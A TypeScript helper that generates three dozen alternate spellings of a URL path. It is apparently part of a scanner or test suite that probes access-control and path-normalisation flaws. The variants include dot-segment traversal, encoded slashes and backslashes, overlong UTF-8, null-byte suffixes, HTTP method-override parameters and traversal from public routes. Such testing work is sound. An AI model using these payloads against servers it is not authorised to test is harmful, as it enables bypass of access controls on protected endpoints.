/** One path in thirty ways that some server, proxy or framework somewhere takes for the same. */
export function spellings(path: string): readonly string[] {
  const [, first = '', ...rest] = path.split('/');
  const tail = rest.join('/');
  const last = path.slice(path.lastIndexOf('/') + 1);
  const stem = path.slice(0, path.lastIndexOf('/') + 1);
  const code = (text: string) => `%${text.codePointAt(0)?.toString(16)}`;
  return [
    path,
    `${path}/`,
    `/${path}`,
    `//${first}//${tail}`,
    `/./${first}/${tail}`,
    `/x/../${first}/${tail}`,
    `/%2e/${first}/${tail}`,
    `/x/%2e%2e/${first}/${tail}`,
    `/${first}/.//${tail}`,
    `/${first.toUpperCase()}/${tail}`,
    path.toUpperCase(),
    `${stem}${code(last)}${last.slice(1)}`,
    `/${code(first)}${first.slice(1)}/${tail}`,
    path.replaceAll('/', '%2f').replace('%2f', '/'),
    path.replaceAll('/', '%2F').replace('%2F', '/'),
    path.replaceAll('/', '\\').replace('\\', '/'),
    path.replaceAll('/', '%5c').replace('%5c', '/'),
    `${path};a=b`,
    `/${first};a=b/${tail}`,
    `${path}.`,
    `${path}.json`,
    `${path}%00`,
    `${path}%20`,
    `${path}%09`,
    `${path}%0a`,
    `${path}?`,
    `${path}??`,
    `${path}?_method=DELETE&method=POST`,
    `${path}%3f`,
    `${path}%23`,
    `${path}#`,
    `${stem}%c0%af${last}`,
    `http://127.0.0.1${path}`,
    `/api/docs/..${path}`,
    `/health/live/..${path}`,
    `/problems.css/..%2f..${path}`,
  ];
}
